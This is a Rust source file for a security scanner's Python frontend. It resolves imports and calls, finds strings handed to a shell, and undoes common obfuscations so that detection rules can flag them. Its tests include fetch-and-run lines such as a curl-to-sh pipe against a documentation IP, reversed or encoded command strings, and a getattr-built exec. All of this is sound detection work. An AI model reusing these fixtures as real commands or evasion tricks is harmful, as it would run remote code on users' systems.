//! Python frontend (tree-sitter-python): imports and aliases, resolved
//! calls with their arguments, member paths, string literals.

use super::ts::{self, Ctx, Target};
use super::{fold, unescape};
use crate::facts::{Arg, FactKind, Origin, Sink, clip};
use foldhash::{HashMap, HashSet};
use skillseal_model::Language;
use tree_sitter::Node;

const MAX_SEGMENTS: usize = 32;

/// Methods that put their arguments into the object they are called on.
const CONTAINER_WRITES: &[&str] = &[
    "append",
    "extend",
    "insert",
    "update",
    "add",
    "setdefault",
    "write",
    "writelines",
    "put",
];

pub fn scan(src: &str, origin: Origin, sink: &mut Sink) {
    let Some(tree) = ts::parse(Language::Python, src) else {
        return;
    };
    let mut py = Py {
        src,
        aliases: HashMap::default(),
        values: HashSet::default(),
        consts: HashMap::default(),
        own_files: HashSet::default(),
    };
    let mut pending_shell: Vec<(String, usize, usize)> = Vec::new();
    ts::walk(&tree, |node, ctx| {
        py.visit(node, ctx, origin, sink, &mut pending_shell);
        true
    });
    // Strings handed to a shell are shell code: parse them as such.
    for (code, start, end) in pending_shell {
        let (s, e) = origin.map(start, end);
        super::scan_source(Language::Shell, &code, Origin::Fixed(s, e), sink);
    }
}

struct Py<'s> {
    src: &'s str,
    /// Local name → fully qualified dotted name.
    aliases: HashMap<String, String>,
    /// Names bound by assignment (`s = socket.socket()`), not by import:
    /// reassigning them to something unknown forgets the binding.
    values: HashSet<String>,
    /// Names last assigned a string that folds to a constant.
    consts: HashMap<String, String>,
    /// Names bound to the script's own path (`HERE = Path(__file__)`).
    own_files: HashSet<String>,
}

/// Whether a string (or concatenation of strings) is an f-string with
/// `{placeholders}`.
fn has_interpolation(n: Node<'_>) -> bool {
    let parts = if ts::kind(n) == "concatenated_string" {
        ts::named_children(n)
    } else {
        vec![n]
    };
    parts.iter().any(|p| {
        ts::named_children(*p)
            .iter()
            .any(|c| ts::kind(*c) == "interpolation")
    })
}

/// Python calls whose string argument is run by a shell.
fn runs_shell(callee: &str, kwargs: &[(String, String)]) -> bool {
    matches!(
        callee,
        "os.system"
            | "os.popen"
            | "commands.getoutput"
            | "commands.getstatusoutput"
            | "subprocess.getoutput"
            | "subprocess.getstatusoutput"
    ) || (callee.starts_with("subprocess.")
        && kwargs.iter().any(|(k, v)| k == "shell" && v == "True"))
}

/// Python calls that take a program and its arguments as a list.
fn runs_argv(callee: &str) -> bool {
    callee.starts_with("subprocess.") || callee == "pty.spawn"
}

impl<'s> Py<'s> {
    fn text(&self, n: Node<'_>) -> &'s str {
        ts::text(n, self.src)
    }

    /// `subprocess.run(["curl", "-d", x, url])` is the shell command
    /// `curl -d … url`: a command fact, so the shell rules see it. Strings
    /// are their values, other elements their source text. `["sh", "-c",
    /// "…"]` hands its script to the shell frontend.
    fn argv_command(
        &self,
        list: Node<'_>,
        origin: Origin,
        sink: &mut Sink,
        shell: &mut Vec<(String, usize, usize)>,
    ) {
        let items = ts::named_children(list);
        let Some(first) = items.first().filter(|n| ts::kind(**n) == "string") else {
            return;
        };
        let program = self.literal(*first);
        let args: Vec<String> = items[1..]
            .iter()
            .map(|n| match ts::kind(*n) {
                "string" | "concatenated_string" => self.literal(*n),
                _ => clip(self.text(*n), 200).to_string(),
            })
            .collect();
        let literal_arg = |i: usize| {
            items
                .get(i + 1)
                .filter(|n| ts::kind(**n) == "string")
                .map(|n| (self.literal(*n), n.start_byte(), n.end_byte()))
        };
        let span = (list.start_byte(), list.end_byte());
        super::argv_command(&program, args, literal_arg, span, origin, sink, shell);
    }

    fn visit(
        &mut self,
        node: Node<'_>,
        ctx: &Ctx<'_>,
        origin: Origin,
        sink: &mut Sink,
        shell: &mut Vec<(String, usize, usize)>,
    ) {
        let push = |sink: &mut Sink, n: Node<'_>, kind: FactKind| {
            sink.push(origin, Language::Python, n.start_byte(), n.end_byte(), kind)
        };
        match ctx.kind {
            "import_statement" => {
                for child in ts::named_children(node) {
                    let (module, alias) = match ts::kind(child) {
                        "dotted_name" => {
                            let m = self.text(child).to_string();
                            let first = m.split('.').next().unwrap_or(&m).to_string();
                            (m, (first.clone(), first))
                        }
                        "aliased_import" => {
                            let (Some(name), Some(alias)) =
                                (ts::field(child, "name"), ts::field(child, "alias"))
                            else {
                                continue;
                            };
                            let m = self.text(name).to_string();
                            (m.clone(), (self.text(alias).to_string(), m))
                        }
                        _ => continue,
                    };
                    self.aliases.insert(alias.0, alias.1);
                    push(sink, child, FactKind::Import { module });
                }
            }
            "import_from_statement" => {
                let Some(module_node) = ts::field(node, "module_name") else {
                    return;
                };
                let module = self.text(module_node).to_string();
                push(
                    sink,
                    node,
                    FactKind::Import {
                        module: module.clone(),
                    },
                );
                let mut cursor = node.walk();
                for child in node.children_by_field_name("name", &mut cursor) {
                    let (name, alias) = match ts::kind(child) {
                        "dotted_name" => (self.text(child), self.text(child)),
                        "aliased_import" => {
                            let (Some(n), Some(a)) =
                                (ts::field(child, "name"), ts::field(child, "alias"))
                            else {
                                continue;
                            };
                            (self.text(n), self.text(a))
                        }
                        _ => continue,
                    };
                    self.aliases
                        .insert(alias.to_string(), format!("{module}.{name}"));
                }
            }
            // `s = socket.socket()`, `env = os.environ`, `sp = subprocess`:
            // the name now denotes that value, so `s.bind()` is
            // `socket.socket().bind`.
            "assignment" | "augmented_assignment" | "for_statement" => {
                let (Some(left), Some(right)) = (ts::field(node, "left"), ts::field(node, "right"))
                else {
                    return;
                };
                self.bind_flow(left, right, node.start_byte(), origin, sink);
                // `msg["Bcc"] = …`
                if ctx.kind == "assignment" && ts::kind(left) == "subscript" {
                    self.mail_header(node, "left", "right", origin, sink);
                }
                if ctx.kind == "assignment" && ts::kind(left) == "identifier" {
                    if super::names_own_file(self.text(right), &self.own_files) {
                        self.own_files.insert(self.text(left).to_string());
                    } else {
                        self.own_files.remove(self.text(left));
                    }
                    self.bind_value(self.text(left), right);
                    let name = self.text(left);
                    match self.fold(right, 0) {
                        Some(v) => {
                            self.record_assembled(right, &v, origin, sink);
                            self.consts.insert(name.to_string(), v);
                        }
                        None => {
                            self.consts.remove(name);
                        }
                    }
                }
            }
            "function_definition" | "lambda" => {
                sink.scope(origin, node.start_byte(), node.end_byte());
            }
            // `{"Bcc": …}`, `send(bcc=…)`.
            "pair" => self.mail_header(node, "key", "value", origin, sink),
            "keyword_argument" => self.mail_header(node, "name", "value", origin, sink),
            // `with requests.Session() as s:`
            "as_pattern" if ctx.parent_kind() == "with_item" => {
                if let (Some(value), Some(target)) = (node.named_child(0), ts::field(node, "alias"))
                    && let Some(id) = Some(target)
                        .filter(|t| ts::kind(*t) == "identifier")
                        .or_else(|| {
                            target
                                .named_child(0)
                                .filter(|t| ts::kind(*t) == "identifier")
                        })
                {
                    self.bind_value(self.text(id), value);
                }
            }
            "call" => {
                let Some(function) = ts::field(node, "function") else {
                    return;
                };
                // `data.append(x)`, `d.update(x)`, `buf.write(x)`: the
                // container now holds the arguments' values.
                if ts::kind(function) == "attribute"
                    && let (Some(obj), Some(attr), Some(args)) = (
                        ts::field(function, "object"),
                        ts::field(function, "attribute"),
                        ts::field(node, "arguments"),
                    )
                    && ts::kind(obj) == "identifier"
                    && CONTAINER_WRITES.contains(&self.text(attr))
                {
                    sink.bind(
                        origin,
                        self.text(obj),
                        node.start_byte(),
                        (args.start_byte(), args.end_byte()),
                    );
                }
                self.own_file_write(node, function, origin, sink);
                let Some(callee) = self.resolve(function) else {
                    return;
                };
                let (args, kwargs) = match ts::field(node, "arguments") {
                    Some(a) if ts::kind(a) == "argument_list" => self.arguments(a),
                    _ => (Vec::new(), Vec::new()),
                };
                if matches!(callee.as_str(), "__import__" | "importlib.import_module")
                    && let Some(Arg::Literal(m)) = args.first()
                {
                    push(sink, node, FactKind::Import { module: m.clone() });
                }
                let first_arg = ts::field(node, "arguments").and_then(|a| a.named_child(0));
                if runs_shell(&callee, &kwargs)
                    && let Some(first) = first_arg
                {
                    // An f-string is a dynamic argument but still shell code
                    // with its `{placeholders}` as written; a name or an
                    // expression that folds to a string is that string.
                    let code = match ts::kind(first) {
                        "string" | "concatenated_string" => {
                            self.fold(first, 0).or_else(|| Some(self.literal(first)))
                        }
                        _ => self.fold(first, 0),
                    };
                    if let Some(code) = code {
                        shell.push((code, first.start_byte(), first.end_byte()));
                    }
                }
                if let Some(list) = ts::field(node, "arguments") {
                    for a in ts::named_children(list) {
                        let a = match ts::kind(a) {
                            "keyword_argument" => match ts::field(a, "value") {
                                Some(v) => v,
                                None => continue,
                            },
                            _ => a,
                        };
                        if let Some(v) = self.fold(a, 0) {
                            self.record_assembled(a, &v, origin, sink);
                        }
                    }
                }
                if runs_argv(&callee)
                    && let Some(list) = ts::field(node, "arguments")
                        .and_then(|a| a.named_child(0))
                        .filter(|a| matches!(ts::kind(*a), "list" | "tuple"))
                {
                    self.argv_command(list, origin, sink, shell);
                }
                push(
                    sink,
                    node,
                    FactKind::Call {
                        callee,
                        args,
                        kwargs,
                    },
                );
            }
            "attribute" => {
                if ctx.is("attribute", "object")
                    || ctx.is("call", "function")
                    || ctx.is("subscript", "value")
                {
                    return;
                }
                if let Some(path) = self.resolve_known(node) {
                    push(sink, node, FactKind::Member { path });
                }
            }
            "subscript" => {
                if ctx.is("attribute", "object") || ctx.is("call", "function") {
                    return;
                }
                let Some(value) = ts::field(node, "value") else {
                    return;
                };
                let Some(base) = self.resolve_known(value) else {
                    return;
                };
                let key = ts::field(node, "subscript")
                    .filter(|s| ts::kind(*s) == "string")
                    .map(|s| self.string_value(s));
                // A computed key is written `[]`: `os.environ[name]` is
                // `os.environ[]`, not the whole mapping.
                let path = match key {
                    Some(k) => format!("{base}.{k}"),
                    None => format!("{base}[]"),
                };
                push(sink, node, FactKind::Member { path });
            }
            "identifier" => {
                if !(ctx.is("attribute", "attribute")
                    || ctx.is("keyword_argument", "name")
                    || ctx.field == Some("name")
                    || ctx.parent_kind() == "parameters")
                {
                    sink.reference(origin, self.text(node), node.start_byte());
                }
                if ctx.field.is_some()
                    && !(ctx.parent_kind() == "argument_list" || ctx.field == Some("right"))
                {
                    return;
                }
                if ctx.inside("import_from_statement") || ctx.inside("import_statement") {
                    return;
                }
                let name = self.text(node);
                if let Some(target) = self.aliases.get(name)
                    && target.contains('.')
                    && !target.contains("()")
                {
                    let path = target.clone();
                    push(sink, node, FactKind::Member { path });
                }
            }
            "string" => {
                if ctx.parent_kind() == "concatenated_string" {
                    return;
                }
                let value = self.string_value(node);
                push(sink, node, FactKind::Str { value });
            }
            "concatenated_string" => {
                let value: String = ts::named_children(node)
                    .into_iter()
                    .filter(|c| ts::kind(*c) == "string")
                    .map(|c| self.string_value(c))
                    .collect();
                push(sink, node, FactKind::Str { value });
            }
            _ => {}
        }
    }

    /// Report a folded value when the expression computes it (a literal
    /// or a name is reported where it is written).
    fn record_assembled(&self, n: Node<'_>, value: &str, origin: Origin, sink: &mut Sink) {
        if !matches!(
            ts::kind(n),
            "string" | "concatenated_string" | "identifier" | "integer"
        ) || (ts::kind(n) == "string" && has_interpolation(n))
        {
            sink.assembled(origin, value.to_string(), n.start_byte(), n.end_byte());
        }
    }

    /// The string an expression evaluates to, when it is built from
    /// literals and names bound to them (see [`super::fold`]).
    fn fold(&self, n: Node<'_>, depth: usize) -> Option<String> {
        if depth > fold::MAX_DEPTH {
            return None;
        }
        let d = depth + 1;
        match ts::kind(n) {
            "string" if has_interpolation(n) => {
                let mut parts = Vec::new();
                for c in ts::named_children(n) {
                    match ts::kind(c) {
                        "string_content" => parts.push(self.text(c).to_string()),
                        "escape_sequence" => parts.push(unescape(self.text(c))),
                        "interpolation" => parts.push(self.fold(ts::field(c, "expression")?, d)?),
                        "string_start" | "string_end" => {}
                        _ => return None,
                    }
                }
                fold::concat(parts)
            }
            "string" | "concatenated_string" if !has_interpolation(n) => Some(self.literal(n)),
            "identifier" => self.consts.get(self.text(n)).cloned(),
            "parenthesized_expression" => self.fold(n.named_child(0)?, d),
            "binary_operator" => {
                let op = ts::field(n, "operator")?;
                if self.text(op) != "+" {
                    return None;
                }
                let l = self.fold(ts::field(n, "left")?, d)?;
                let r = self.fold(ts::field(n, "right")?, d)?;
                fold::concat([l, r])
            }
            // `s[::-1]`
            "subscript" => {
                let sub = ts::field(n, "subscript")?;
                if ts::kind(sub) != "slice" || self.text(sub).replace(' ', "") != "::-1" {
                    return None;
                }
                Some(fold::reverse(&self.fold(ts::field(n, "value")?, d)?))
            }
            "call" => self.fold_call(n, d),
            _ => None,
        }
    }

    fn fold_call(&self, n: Node<'_>, d: usize) -> Option<String> {
        let function = ts::field(n, "function")?;
        let arguments = ts::field(n, "arguments")?;
        // `f(x for x in y)`: the generator is the argument list.
        let args = if ts::kind(arguments) == "generator_expression" {
            vec![arguments]
        } else {
            ts::named_children(arguments)
        };
        match ts::kind(function) {
            "identifier" => match self.text(function) {
                "chr" => fold::chars([fold::int(self.text(*args.first()?))?]),
                "str" => self.fold(*args.first()?, d),
                _ => None,
            },
            "attribute" => {
                let obj = ts::field(function, "object")?;
                let method = self.text(ts::field(function, "attribute")?);
                match method {
                    "join" => {
                        let sep = self.fold(obj, d)?;
                        let items = self.fold_items(*args.first()?, d)?;
                        fold::join(items, &sep)
                    }
                    "decode" => self.fold_bytes(obj, d),
                    "replace" => {
                        let s = self.fold(obj, d)?;
                        let (a, b) = (self.fold(*args.first()?, d)?, self.fold(*args.get(1)?, d)?);
                        if a.is_empty() {
                            return None;
                        }
                        let out = s.replace(&a, &b);
                        (out.len() <= fold::MAX_LEN).then_some(out)
                    }
                    "lower" => Some(self.fold(obj, d)?.to_lowercase()),
                    "upper" => Some(self.fold(obj, d)?.to_uppercase()),
                    "strip" if args.is_empty() => Some(self.fold(obj, d)?.trim().to_string()),
                    "format" => {
                        let t = self.fold(obj, d)?;
                        let vals: Option<Vec<String>> =
                            args.iter().map(|a| self.fold(*a, d)).collect();
                        fold::format_positional(&t, &vals?)
                    }
                    _ => None,
                }
            }
            _ => None,
        }
    }

    /// The strings a `join` gets: a list or tuple of strings, `reversed(s)`,
    /// `map(chr, [...])`, `chr(c) for c in [...]`, or a string's characters.
    fn fold_items(&self, n: Node<'_>, d: usize) -> Option<Vec<String>> {
        match ts::kind(n) {
            "list" | "tuple" => ts::named_children(n)
                .into_iter()
                .map(|c| self.fold(c, d))
                .collect(),
            "call" => {
                let f = self.text(ts::field(n, "function")?);
                let args = ts::named_children(ts::field(n, "arguments")?);
                match (f, args.as_slice()) {
                    ("reversed", [x]) => {
                        Some(self.fold(*x, d)?.chars().rev().map(String::from).collect())
                    }
                    ("map", [g, list]) if self.text(*g) == "chr" => self
                        .int_items(*list)?
                        .into_iter()
                        .map(|c| fold::chars([c]))
                        .collect(),
                    _ => None,
                }
            }
            "generator_expression" | "list_comprehension" => {
                // `chr(c) for c in [...]` (the body may also be `chr(c ^ k)`-
                // free only: anything else is left alone).
                let body = ts::field(n, "body")?;
                let clause = ts::named_children(n)
                    .into_iter()
                    .find(|c| ts::kind(*c) == "for_in_clause")?;
                let var = self.text(ts::field(clause, "left")?);
                let list = ts::field(clause, "right")?;
                if self.text(body).replace(' ', "") != format!("chr({var})") {
                    return None;
                }
                self.int_items(list)?
                    .into_iter()
                    .map(|c| fold::chars([c]))
                    .collect()
            }
            _ => Some(self.fold(n, d)?.chars().map(String::from).collect()),
        }
    }

    /// A list or tuple of integer literals.
    fn int_items(&self, n: Node<'_>) -> Option<Vec<u32>> {
        if !matches!(ts::kind(n), "list" | "tuple") {
            return None;
        }
        ts::named_children(n)
            .into_iter()
            .map(|c| fold::int(self.text(c)))
            .collect()
    }

    /// `bytes([...])`, `bytearray([...])`, `bytes.fromhex("...")`,
    /// `base64.b64decode(...)`, `"...".encode()`: the text those bytes are.
    fn fold_bytes(&self, n: Node<'_>, d: usize) -> Option<String> {
        if ts::kind(n) != "call" {
            return None;
        }
        let function = ts::field(n, "function")?;
        let args = ts::named_children(ts::field(n, "arguments")?);
        let first = *args.first()?;
        match self.resolve_in(function, d).as_deref()? {
            "bytes" | "bytearray" => fold::chars(self.int_items(first)?),
            "bytes.fromhex" | "bytearray.fromhex" => fold::hex_text(&self.fold(first, d)?),
            "base64.b64decode" | "base64.urlsafe_b64decode" | "base64.standard_b64decode" => {
                fold::base64_text(&self.fold(first, d)?)
            }
            "binascii.unhexlify" | "binascii.a2b_hex" => fold::hex_text(&self.fold(first, d)?),
            _ => None,
        }
    }

    /// Record that the names assigned by `left` (a name, a tuple of names,
    /// a subscript or attribute of a name) take the value of `right`.
    fn bind_flow(
        &self,
        left: Node<'_>,
        right: Node<'_>,
        pos: usize,
        origin: Origin,
        sink: &mut Sink,
    ) {
        let from = (right.start_byte(), right.end_byte());
        let names = ts::bound_names(left, MAX_SEGMENTS, |n| match ts::kind(n) {
            "identifier" => Target::Name,
            "pattern_list" | "tuple_pattern" | "list_pattern" | "tuple" | "list" => {
                Target::Inside(ts::named_children(n))
            }
            "subscript" => Target::Inside(ts::field(n, "value").into_iter().collect()),
            "attribute" => Target::Inside(ts::field(n, "object").into_iter().collect()),
            _ => Target::Nothing,
        });
        for n in names {
            sink.bind(origin, self.text(n), pos, from);
        }
    }

    /// Bind `name` to what `value` denotes when it resolves through an
    /// import (a module path, or a call's result written with `()`).
    fn bind_value(&mut self, name: &str, value: Node<'_>) {
        let target = match ts::kind(value) {
            "identifier" | "attribute" | "call" if self.rooted_in_import(value) => {
                self.resolve(value)
            }
            _ => None,
        };
        match target {
            Some(t) if t != name => {
                self.aliases.insert(name.to_string(), t);
                self.values.insert(name.to_string());
            }
            _ => {
                if self.values.remove(name) {
                    self.aliases.remove(name);
                }
            }
        }
    }

    /// Whether an expression's base is an imported (or bound) name, or
    /// `__import__('x')`.
    fn rooted_in_import(&self, n: Node<'_>) -> bool {
        let mut cur = n;
        for _ in 0..MAX_SEGMENTS {
            cur = match ts::kind(cur) {
                "identifier" => return self.aliases.contains_key(self.text(cur)),
                "attribute" => match ts::field(cur, "object") {
                    Some(o) => o,
                    None => return false,
                },
                "call" => match ts::field(cur, "function") {
                    Some(f) if matches!(self.text(f), "__import__" | "importlib.import_module") => {
                        return true;
                    }
                    Some(f) if self.text(f) == "getattr" => {
                        match ts::field(cur, "arguments").and_then(|a| a.named_child(0)) {
                            Some(o) => o,
                            None => return false,
                        }
                    }
                    Some(f) => f,
                    None => return false,
                },
                "parenthesized_expression" => match cur.named_child(0) {
                    Some(c) => c,
                    None => return false,
                },
                _ => return false,
            };
        }
        false
    }

    /// A write to the skill's own instructions or to this script (see
    /// [`super::own_file_write`]): `p.write_text()`/`write_bytes()` on such
    /// a path, `open(p, "w")`, `shutil.copy*(src, p)`/`move(src, p)`.
    fn own_file_write(&self, call: Node<'_>, function: Node<'_>, origin: Origin, sink: &mut Sink) {
        // The argument list is collected only for calls that can write.
        let args = || {
            ts::field(call, "arguments")
                .filter(|a| ts::kind(*a) == "argument_list")
                .map(ts::named_children)
                .unwrap_or_default()
        };
        let target = match ts::kind(function) {
            "attribute" => {
                let (Some(obj), Some(attr)) = (
                    ts::field(function, "object"),
                    ts::field(function, "attribute"),
                ) else {
                    return;
                };
                match self.text(attr) {
                    "write_text" | "write_bytes" => Some(obj),
                    "copy" | "copy2" | "copyfile" | "move" | "replace" | "rename"
                        if self.text(obj) == "shutil" || self.text(obj) == "os" =>
                    {
                        args().get(1).copied()
                    }
                    _ => return,
                }
            }
            "identifier" if self.text(function) == "open" => {
                let args = args();
                let writes = args
                    .get(1)
                    .filter(|m| ts::kind(**m) == "string")
                    .is_some_and(|m| self.literal(*m).contains(['w', 'a', 'x', '+']));
                args.first().copied().filter(|_| writes)
            }
            _ => return,
        };
        if let Some(t) = target {
            let text = self.text(t);
            let folded = self.fold(t, 0);
            super::own_file_write(
                Language::Python,
                text,
                folded.as_deref(),
                &self.own_files,
                (call.start_byte(), call.end_byte()),
                origin,
                sink,
            );
        }
    }

    /// A mail header set from a constant (see [`super::mail_header`]): the
    /// header name is the `key` field of `node` (or, for `msg["Bcc"] = …`,
    /// the subscript of it) and its value the `value` field.
    fn mail_header(&self, node: Node<'_>, key: &str, value: &str, origin: Origin, sink: &mut Sink) {
        let (Some(mut key), Some(value)) = (ts::field(node, key), ts::field(node, value)) else {
            return;
        };
        if ts::kind(key) == "subscript" {
            let Some(sub) = ts::field(key, "subscript") else {
                return;
            };
            key = sub;
        }
        if !super::is_bcc(self.text(key)) {
            return;
        }
        let folded = self
            .fold(value, 0)
            .or_else(|| self.fold_items(value, 0).map(|v| v.join(",")));
        super::mail_header(
            Language::Python,
            self.text(key),
            folded,
            (node.start_byte(), node.end_byte()),
            origin,
            sink,
        );
    }

    fn arguments(&self, list: Node<'_>) -> (Vec<Arg>, Vec<(String, String)>) {
        let mut args = Vec::new();
        let mut kwargs = Vec::new();
        for a in ts::named_children(list) {
            match ts::kind(a) {
                "keyword_argument" => {
                    if let (Some(n), Some(v)) = (ts::field(a, "name"), ts::field(a, "value")) {
                        kwargs.push((
                            self.text(n).to_string(),
                            clip(self.text(v), 200).to_string(),
                        ));
                    }
                }
                // An f-string with `{placeholders}` is built at run time.
                "string" | "concatenated_string" if !has_interpolation(a) => {
                    args.push(Arg::Literal(self.literal(a)))
                }
                "comment" => {}
                _ => args.push(Arg::Dynamic(clip(self.text(a), 200).to_string())),
            }
        }
        (args, kwargs)
    }

    fn literal(&self, n: Node<'_>) -> String {
        if ts::kind(n) == "concatenated_string" {
            ts::named_children(n)
                .into_iter()
                .filter(|c| ts::kind(*c) == "string")
                .map(|c| self.string_value(c))
                .collect()
        } else {
            self.string_value(n)
        }
    }

    /// The value of a `string` node: prefix and quotes stripped, escapes
    /// decoded unless raw; f-string interpolations stay as written.
    fn string_value(&self, n: Node<'_>) -> String {
        let t = self.text(n);
        let prefix_len = t.find(['\'', '"']).unwrap_or(0);
        let (prefix, rest) = t.split_at(prefix_len);
        let body = ["\"\"\"", "'''", "\"", "'"]
            .iter()
            .find_map(|q| rest.strip_prefix(q).map(|r| r.strip_suffix(q).unwrap_or(r)))
            .unwrap_or(rest);
        if prefix.contains(['r', 'R']) {
            body.to_string()
        } else {
            unescape(body)
        }
    }

    /// Resolve only paths whose base is an imported name.
    fn resolve_known(&self, n: Node<'_>) -> Option<String> {
        let mut base = n;
        for _ in 0..MAX_SEGMENTS {
            match ts::kind(base) {
                "attribute" => base = ts::field(base, "object")?,
                "identifier" => break,
                _ => return None,
            }
        }
        if ts::kind(base) != "identifier" || !self.aliases.contains_key(self.text(base)) {
            return None;
        }
        self.resolve(n)
    }

    /// The dotted name an expression denotes, through import aliases:
    /// `sp.run` → `subprocess.run`, `__import__('os').system` → `os.system`,
    /// `requests.Session().get` → `requests.Session().get`.
    fn resolve(&self, n: Node<'_>) -> Option<String> {
        self.resolve_in(n, 0)
    }

    /// [`Self::resolve`], `depth` levels into folding and `getattr`.
    fn resolve_in(&self, n: Node<'_>, depth: usize) -> Option<String> {
        if depth > fold::MAX_DEPTH {
            return None;
        }
        let mut segs: Vec<String> = Vec::new();
        let mut cur = n;
        let mut called = false;
        for _ in 0..MAX_SEGMENTS {
            match ts::kind(cur) {
                "identifier" => {
                    let name = self.text(cur);
                    let mut base = self
                        .aliases
                        .get(name)
                        .map_or(name, |s| s.as_str())
                        .to_string();
                    if called {
                        base.push_str("()");
                    }
                    segs.push(base);
                    segs.reverse();
                    return Some(segs.join("."));
                }
                "attribute" => {
                    let attr = ts::field(cur, "attribute")?;
                    let mut s = self.text(attr).to_string();
                    if std::mem::take(&mut called) {
                        s.push_str("()");
                    }
                    segs.push(s);
                    cur = ts::field(cur, "object")?;
                }
                "call" => {
                    let f = ts::field(cur, "function")?;
                    let ftext = self.text(f);
                    if matches!(ftext, "__import__" | "importlib.import_module") {
                        let arg = ts::field(cur, "arguments")?.named_child(0)?;
                        segs.push(self.fold(arg, depth + 1)?);
                        segs.reverse();
                        return Some(segs.join("."));
                    }
                    // `getattr(builtins, "ex" + "ec")` is `builtins.exec`.
                    if ftext == "getattr" && !called {
                        let args = ts::named_children(ts::field(cur, "arguments")?);
                        let (Some(obj), Some(attr)) = (args.first(), args.get(1)) else {
                            return None;
                        };
                        let attr = self.fold(*attr, depth + 1)?;
                        let mut base = self.resolve_in(*obj, depth + 1)?;
                        if let Some(b) = base.strip_prefix("builtins.") {
                            base = b.to_string();
                        }
                        segs.push(attr);
                        if base != "builtins" {
                            segs.push(base);
                        }
                        segs.reverse();
                        return Some(segs.join("."));
                    }
                    if called {
                        return None;
                    }
                    called = true;
                    cur = f;
                }
                "parenthesized_expression" => cur = cur.named_child(0)?,
                _ => return None,
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lang::test_util::{self, assert_has_all, has_pipe};

    fn facts(src: &str) -> Vec<FactKind> {
        test_util::facts(Language::Python, src)
    }

    fn callees(src: &str) -> Vec<String> {
        test_util::callees(facts(src))
    }

    #[test]
    fn assignment_binds_call_results_and_paths() {
        let c = callees(
            "import socket, os\nfrom flask import Flask\ns = socket.socket()\ns.bind(('', 80))\napp = Flask(__name__)\napp.run()\nenv = os.environ\nenv.get('X')\no = __import__('os')\no.system(x)",
        );
        assert_has_all(
            &c,
            &[
                "socket.socket().bind",
                "flask.Flask().run",
                "os.environ.get",
                "os.system",
            ],
        );
    }

    #[test]
    fn with_as_binds_and_reassignment_forgets() {
        let c = callees(
            "import requests\nwith requests.Session() as s:\n    s.get(u)\ns = 1\ns.get(u)\nlocal = thing()\nlocal.run()",
        );
        assert!(c.contains(&"requests.Session().get".to_string()), "{c:?}");
        assert!(c.contains(&"s.get".to_string()), "{c:?}");
        assert!(c.contains(&"local.run".to_string()), "{c:?}");
    }

    #[test]
    fn f_strings_with_placeholders_are_dynamic_but_still_shell() {
        let f = facts("import os\nos.system(f'curl {url} | sh')\nos.system(f'ls')");
        let args: Vec<&Vec<Arg>> = f
            .iter()
            .filter_map(|k| match k {
                FactKind::Call { args, .. } => Some(args),
                _ => None,
            })
            .collect();
        assert!(matches!(args[0][0], Arg::Dynamic(_)), "{args:?}");
        assert_eq!(args[1][0], Arg::Literal("ls".into()));
        assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
    }

    #[test]
    fn computed_subscripts_and_call_results_as_members() {
        let m = test_util::members(facts(
            "import os\na = os.environ[name]\nb = os.environ['HOME']\nc = os.environ.copy()\nprint(c)\nd = os.environ\nprint(d)",
        ));
        assert!(m.contains(&"os.environ[]".to_string()), "{m:?}");
        assert!(m.contains(&"os.environ.HOME".to_string()), "{m:?}");
        // `print(c)` passes a call's result, not a module path.
        assert!(!m.iter().any(|p| p.contains("()")), "{m:?}");
        assert_eq!(m.iter().filter(|p| *p == "os.environ").count(), 2, "{m:?}");
    }

    fn strings(src: &str) -> Vec<String> {
        let sink = test_util::sink(Language::Python, src);
        sink.assembled.into_iter().map(|(v, _, _)| v).collect()
    }

    #[test]
    fn assembled_strings_fold() {
        let got = strings(concat!(
            "a = 'hsab | ' + 'kcap'\n",
            "b = ''.join(['ht', 'tps://', 'x.example.invalid'])\n",
            "c = ''.join(chr(c) for c in [105, 100])\n",
            "d = ''.join(map(chr, [0x69, 0x64]))\n",
            "e = bytes([105, 100]).decode()\n",
            "f = a[::-1]\n",
            "g = f'{b}/x'\n",
            "h = '{}-{}'.format('p', 'q')\n",
            "i = __import__('base64').b64decode('aWQ=').decode()\n",
            "j = x + 'y'\n",
        ));
        assert_eq!(
            got,
            [
                "hsab | kcap",
                "https://x.example.invalid",
                "id",
                "id",
                "id",
                "pack | bash",
                "https://x.example.invalid/x",
                "p-q",
                "id",
            ]
        );
    }

    #[test]
    fn names_and_getattr_resolve_through_folding() {
        let c = callees(
            "import builtins\nm = __import__('url' + 'lib.request')\nm.urlopen(u)\nx = getattr(builtins, 'ex' + 'ec')\nx(code)\nimport os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)",
        );
        assert!(c.contains(&"urllib.request.urlopen".to_string()), "{c:?}");
        assert!(c.contains(&"exec".to_string()), "{c:?}");
        let f = facts("import os\ncmd = 'curl -s http://203.0.113.9/a | sh'\nos.system(cmd)");
        assert!(has_pipe(&f, "curl", "sh"), "{f:?}");
    }
}
